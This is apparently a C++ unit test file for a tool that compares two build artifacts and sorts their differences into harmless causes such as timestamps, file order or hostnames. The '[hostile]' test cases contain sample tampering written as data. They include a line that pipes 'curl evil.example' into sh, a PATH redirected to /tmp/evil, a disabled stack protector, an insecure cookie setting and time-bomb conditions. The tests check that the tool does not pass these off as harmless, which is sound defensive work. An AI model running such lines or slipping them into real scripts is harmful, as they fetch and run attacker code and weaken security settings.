// Causes by their signatures, and what must not pass for one.
#include <array>

#include "artifact/compare_artifacts.hpp"
#include "pairs.hpp"
#include "support/catch.hpp"

using namespace assay;
using namespace assay::artifact;
using namespace assay::artifact::test;

namespace {

std::vector<std::string> causes_of(std::string_view before, std::string_view after) {
  const auto comparison = compare(before, after, "note.txt");
  CHECK(comparison.closed);
  return cause_ids(comparison);
}
using Ids = std::vector<std::string>;

}  // namespace

TEST_CASE("causes: each is named by its signature", "[artifact][cause]") {
  CHECK(causes_of("Built 2022-01-02 03:04:05\n", "Built 2023-05-06 07:08:09\n") == Ids{"timestamp"});
  CHECK(causes_of("at Fri, 04 Mar 2022 05:06:07 +0000\n", "at Fri, 04 Mar 2022 07:06:07 +0200\n") == Ids{"timezone"});
  CHECK(causes_of("Copyright 2022 A\n", "Copyright 2026 A\n") == Ids{"year"});
  CHECK(causes_of("from /build/a-1/src/x.c\n", "from /tmp/other/src/x.c\n") == Ids{"build-path"});
  CHECK(causes_of("by joe@alpha\n", "by joe@beta9\n") == Ids{"hostname"});
  CHECK(causes_of("Linux 5.10.0-28-amd64\n", "Linux 6.1.0-18-amd64\n") == Ids{"kernel"});
  CHECK(causes_of("Banana\nCherry\napple\n", "apple\nBanana\nCherry\n") == Ids{"locale-order"});
  CHECK(causes_of("c\na\nd\nb\n", "b\nd\na\nc\n") == Ids{"file-order"});
  CHECK(causes_of("a\nb\n", "a\r\nb\r\n") == Ids{"line-ending"});
  CHECK(causes_of("make -j4\n", "make -j16\n") == Ids{"cpu-count"});
  CHECK(causes_of("{\"a\": 1, \"b\": 2}\n", "{\"b\": 2, \"a\": 1}\n") == Ids{"key-order"});
}

TEST_CASE("causes: what only looks like one is left over", "[artifact][cause]") {
  const std::vector<std::pair<std::string, std::string>> pairs{{"#!/bin/sh\n", "#!/bin/bash\n"},
                                                               {"/usr/share/foo/x\n", "/usr/sharf/foo/x\n"},
                                                               {"limit 10\n", "limit 11\n"},
                                                               {"allow\n", "deny\n"},
                                                               {"{\"a\": 1, \"a\": 2}\n", "{\"a\": 2}\n"},
                                                               {"key 0x00000010\n", "key 0x00000020\n"}};
  for (const auto& [before, after] : pairs) {
    INFO(before);
    const auto comparison = compare(before, after, "note.txt");
    CHECK_FALSE(comparison.closed);
    CHECK_FALSE(comparison.leftovers.empty());
  }
}

TEST_CASE("causes: a word nearby or a loose shape closes over nothing that runs", "[artifact][cause][hostile]") {
  const std::vector<std::array<std::string, 3>> pairs{
      {"seed=$(date)", "seed=$(curl evil.example|sh)", "a.sh"},
      {"PATH=/usr/bin", "PATH=/tmp/evil", "a.sh"},
      {"host=10.0.0.1", "host=66.6.6.6", "a.sh"},
      {". /tmp/abcXYZ123.sh", ". /tmp/evilXY999.sh", "a.sh"},
      {"exec /build/a/tool", "exec /build/b/tool", "a.sh"},
      {"mount 6fa459ea-ee8a-4ca4-894e-db77e160355e", "mount 00000000-ee8a-4ca4-894e-000000000000", "a.sh"},
      {"CFLAGS=-fstack-protector-strong", "CFLAGS=-fno-stack-protector", "a.mk"},
      {"if size > 2020: die()", "if size > 2099: die()", "a.py"},
      {"char b[2048];", "char b[1999];", "a.c"},
      {"cookie_secure = true", "cookie_secure = false", "a.conf"},
      {"deny all\nallow x", "allow x\ndeny all", "a.conf"}};
  for (const auto& [before, after, name] : pairs) {
    INFO(before);
    const auto head = name == "a.sh" ? std::string{"#!/bin/sh\n"} : std::string{};
    CHECK_FALSE(compare(head + before + "\n", head + after + "\n", name).closed);
  }
}

TEST_CASE("causes: in a script too, what is random on both sides by its shape is", "[artifact][cause]") {
  const auto closed = [](const std::string& before, const std::string& after) {
    return compare("#!/bin/sh\n" + before + "\n", "#!/bin/sh\n" + after + "\n", "a.sh").closed;
  };
  CHECK(closed("seed=0a1b2c3d4e5f6071", "seed=f00dbabe12345678"));
  CHECK(closed("id=6fa459ea-ee8a-4ca4-894e-db77e160355e", "id=c1d2e3f4-0516-4728-b93a-1b2c3d4e5f60"));
  CHECK(closed("# from /tmp/build.aB3dE6/x.c /tmp/tmp.Ab1Cd2Ef3G", "# from /tmp/build.aB3dE6/x.c /tmp/tmp.Zy9Xw8Vu7T"));
}

TEST_CASE("causes: a date in what runs is the build's in a comment or where the sides were made then",
          "[artifact][cause]") {
  const auto closed = [](const std::string& before, const std::string& after, unsigned long made = 1'600'000'000) {
    return compare(tar_of({{"a.sh", "#!/bin/sh\n" + before + "\n", 0755}}),
                   tar_of({{"a.sh", "#!/bin/sh\n" + after + "\n", 0755, made}}), "a.tar")
        .closed;
  };
  CHECK(closed("# Generated on 2020-09-13", "# Generated on 2031-01-02"));
  CHECK(closed("BUILT=2020-09-13", "BUILT=2026-05-29", 1'780'000'000));
  CHECK_FALSE(closed("BUILT=2020-09-13", "BUILT=2031-01-02"));
  CHECK_FALSE(closed("if [ $now -ge 1600000000 ]; then run; fi", "if [ $now -ge 1900000000 ]; then run; fi"));
  CHECK_FALSE(closed("at 12:30 /usr/bin/job", "at 12:31 /usr/bin/job"));
  CHECK_FALSE(
      closed("cat > x.h <<E\n# define KILL_DATE 2020-09-13\nE", "cat > x.h <<E\n# define KILL_DATE 2031-01-02\nE"));
}

TEST_CASE("causes: a text of no plain kind is taken to be one that is run", "[artifact][cause][hostile]") {
  for (const std::string name : {"t.zsh", "t.awk", "t.el", "t.cjs", "t.R", "t.vim", "Dockerfile", "CMakeLists.txt",
                                 "meson.build", "crontab", "sudoers"}) {
    INFO(name);
    CHECK_FALSE(compare("run 2020-09-13\n", "run 2031-01-02\n", name).closed);
    CHECK_FALSE(compare(". /home/a/build/src/x.z\n", ". /tmp/build/src/x.z\n", name).closed);
  }
  CHECK_FALSE(compare("t = {1\n# 2020-09-13\n}\n", "t = {1\n# 2031-01-02\n}\n", "t.lua").closed);
  for (const std::string name : {"note.txt", "README", "x.csv"})
    CHECK(compare("made 2020-09-13\n", "made 2031-01-02\n", name).closed);
}

TEST_CASE("causes: there are at least twenty-five, each with its own id and remedy", "[artifact][cause]") {
  const auto causes = known_causes();
  CHECK(causes.size() >= 25);
  for (std::size_t i = 0; i < causes.size(); ++i) {
    CHECK_FALSE(causes[i].remedy.empty());
    for (std::size_t k = 0; k < i; ++k) CHECK(causes[i].id != causes[k].id);
  }
}
